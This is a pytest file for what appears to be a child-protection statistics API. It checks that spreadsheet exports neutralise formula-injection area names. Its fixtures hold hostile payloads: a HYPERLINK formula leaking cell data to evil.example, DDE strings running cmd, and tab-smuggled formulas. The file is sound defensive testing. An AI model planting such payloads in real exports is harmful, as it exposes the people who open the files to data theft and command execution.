"""Formula injection (issue #18, item 6): an area named like a formula comes out of every
export as text: typed as a string in the workbook, quoted with `'` in the CSV."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from childprotect_api.core.cells import csv_row, csv_text
from childprotect_api.models.area import Area
from tests.conftest import COUNTY, TOWNSHIP, VILLAGE, VILLAGE_OTHER_TOWNSHIP, VILLAGE_SAME_TOWNSHIP

NAMES = {
    VILLAGE: '=HYPERLINK("https://evil.example/?leak="&A1,"点击查看")',
    TOWNSHIP: "+cmd|' /C calc'!A0",
    VILLAGE_SAME_TOWNSHIP: "@SUM(1+1)*cmd|' /C calc'!A0",
    VILLAGE_OTHER_TOWNSHIP: "-2+3+cmd|' /C calc'!A0",
}
SMUGGLED = {"\t=1+1", "\r=1+1"}


@pytest.fixture
async def named(session, world):  # type: ignore[no-untyped-def]
    for code, name in NAMES.items():
        await session.execute(update(Area).where(Area.code == code).values(name=name))
    await session.execute(update(Area).where(Area.code == COUNTY).values(name="\t=1+1"))
    await session.commit()
    return world


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@x", "'@x"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("洪水村", "洪水村"),
        ("a=1", "a=1"),
        (3, 3),
        (-3.5, -3.5),
        (None, None),
    ],
)
def test_csv_cells_are_neutralised(value, expected):
    assert csv_text(value) == expected
    assert csv_row([value]) == [expected]


async def test_the_workbook_holds_formulas_as_text(client, named):
    r = await client.get(
        "/api/v1/stats/export",
        params={"area": COUNTY, "format": "xlsx"},
        headers=named["officer"].headers,
    )
    assert r.status_code == 200, r.text
    wb = load_workbook(io.BytesIO(r.content))
    seen: set[str] = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    seen.add(cell.value)
    for name in NAMES.values():
        assert name in seen  # kept as it is, as text
    assert any(v.startswith("\t=1+1") for v in seen)


async def test_the_csv_neutralises_formulas(client, named):
    r = await client.get(
        "/api/v1/stats/export",
        params={"area": COUNTY, "format": "csv"},
        headers=named["officer"].headers,
    )
    assert r.status_code == 200, r.text
    text = r.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [c for row in rows for c in row]
    for name in NAMES.values():
        assert "'" + name in cells
    assert "'\t=1+1（合计）" in cells or "'\t=1+1" in cells
    for c in cells:
        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
        assert not c.startswith("-") or c.lstrip("-").replace(".", "").isdigit(), c
